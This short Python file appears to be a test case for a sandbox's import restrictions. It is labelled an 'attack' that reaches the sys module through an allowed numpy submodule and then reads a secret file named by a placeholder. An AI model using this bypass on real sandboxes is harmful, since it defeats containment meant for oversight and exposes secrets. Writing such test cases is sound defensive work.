# attack: a compiled module of numpy has `sys` as an attribute, and everything below numpy.random counts as allowed
# family: import
from numpy.random.bit_generator import sys
print("REACHED", sys)
print(sys.modules["io"].open("$SECRET_FILE").read())
